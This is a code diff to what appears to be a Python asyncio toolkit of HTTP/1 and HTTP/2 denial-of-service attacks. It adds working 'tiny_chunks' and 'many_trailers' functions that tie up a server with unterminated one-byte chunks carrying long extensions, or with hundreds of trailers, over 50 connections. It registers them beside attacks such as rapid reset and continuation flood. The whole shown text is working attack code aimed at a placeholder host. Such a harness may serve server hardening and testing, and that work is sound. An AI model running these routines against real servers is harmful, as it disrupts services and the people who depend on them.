@@ -234,6 +234,32 @@ async def large_heads(target, counts):
     await again(counts, 500, once)
 
 
+CHUNKED = b"POST /echo HTTP/1.1\r\nhost: attacked.example\r\ntransfer-encoding: chunked\r\n\r\n"
+
+
+async def tiny_chunks(target, counts):
+    """50 connections, each with a POST of chunks of one byte with an extension of 60, without end, that reads its response."""
+    chunks = (b"1;x=" + b"a" * 58 + b"\r\nb\r\n") * 200
+
+    async def once():
+        async with Connection(target.host, target.port, counts) as c:
+            await c.send(CHUNKED)
+            await c.trickle(chunks, 0)
+
+    await again(counts, 50, once)
+
+
+async def many_trailers(target, counts):
+    """50 connections, each with one POST after the other of one byte and 190 trailers."""
+    trailers = b"".join(b"x-%d: %s\r\n" % (i, b"a" * 10) for i in range(190))
+
+    async def once():
+        async with Connection(target.host, target.port, counts) as c:
+            await c.trickle(CHUNKED + b"1\r\nb\r\n0\r\n" + trailers + b"\r\n", 0)
+
+    await again(counts, 50, once)
+
+
 # HTTP/2.
 
 
@@ -505,13 +531,14 @@ async def slowhttptest(target, counts):
 
 
 # Attacks with complete requests, for which workers may be launched.
-WHOLE_REQUESTS = {"slow-readers-http1", "slow-readers-http2", "flood", "slowhttptest"}
+WHOLE_REQUESTS = {"slow-readers-http1", "slow-readers-http2", "many-trailers", "flood", "slowhttptest"}
 
 ATTACKS = {
     function.__name__.replace("_", "-"): function
     for function in (
-        slow_heads, half_open_http1, slow_bodies_http1, slow_readers_http1, idle_connections, large_heads, half_open_http2, slow_bodies_http2,
-        slow_readers_http2, full_windows, small_parts, rapid_reset, made_you_reset, tunnel_trailers, continuation_flood, header_bomb, frame_floods,
+        slow_heads, half_open_http1, slow_bodies_http1, slow_readers_http1, idle_connections, large_heads, tiny_chunks, many_trailers,
+        half_open_http2, slow_bodies_http2, slow_readers_http2, full_windows, small_parts, rapid_reset, made_you_reset, tunnel_trailers,
+        continuation_flood, header_bomb, frame_floods,
         worker_port, admin_port, flood, slowhttptest)
 }
 
